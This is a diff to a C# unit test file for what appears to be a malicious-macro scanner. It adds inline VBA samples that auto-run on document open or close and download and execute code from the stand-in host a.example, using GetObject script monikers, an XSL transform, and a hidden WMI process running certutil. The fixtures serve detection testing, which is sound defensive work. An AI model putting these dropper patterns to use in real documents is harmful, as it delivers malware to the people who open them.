@@ -16,6 +16,9 @@ public sealed class MacroAssessmentTests
     [InlineData("Sub Document_Open()\nShell \"powershell -enc aQBlAHgAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAA=\"\nEnd Sub")]
     [InlineData("Private Declare Function F Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a, ByVal b, ByVal c, ByVal d, ByVal e)\nSub Auto_Open()\nF 0, \"http://a.example/1\", \"C:\\Datop\\test.test\", 0, 0\nShell \"regsvr32 -s C:\\Datop\\test.test\"\nEnd Sub")]
     [InlineData("Sub InkEdit1_GotFocus()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/a.exe\", False\nh.send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"a.exe\"\nShell \"a.exe\"\nEnd Sub")]
+    [InlineData("Sub AutoOpen()\nGetObject \"script:http://a.example/x\"\nEnd Sub")]
+    [InlineData("Sub AutoOpen()\nSet x = CreateObject(\"Microsoft.XMLDOM\")\nx.load \"http://a.example/x.xsl\"\nx.transformNode x\nEnd Sub")]
+    [InlineData("Sub AutoClose()\nSet w = GetObject(\"winmgmts:\" & \"root\\cimv2\")\nSet s = w.Get(\"Win32_ProcessStartup\").SpawnInstance_\ns.ShowWindow = 0\nw.Get(\"Win32_Process\").Create \"certutil -urlcache -f http://a.example/a.exe a.exe\", Null, s, p\nEnd Sub")]
     public void FetchingAndRunning_IsCritical(string source)
     {
         var file = Inspect(source);
